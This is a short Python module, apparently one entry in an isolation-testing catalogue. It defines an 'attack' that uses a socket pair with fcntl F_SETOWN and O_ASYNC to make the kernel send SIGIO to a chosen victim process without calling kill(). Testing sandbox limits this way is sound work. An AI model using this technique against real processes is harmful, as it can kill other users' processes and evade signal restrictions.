# The kernel signals another process when something comes.
# after: signal
# source: own
# needs: victim
import ctypes
import os
import socket
libc = ctypes.CDLL(None, use_errno=True)
def attack(victim, **_):
    ours, theirs = socket.socketpair()
    if libc.fcntl(ours.fileno(), 8, int(victim)) < 0:
        raise OSError(ctypes.get_errno(), "F_SETOWN")
    libc.fcntl(ours.fileno(), 4, 0o20000)
    theirs.send(b"!")
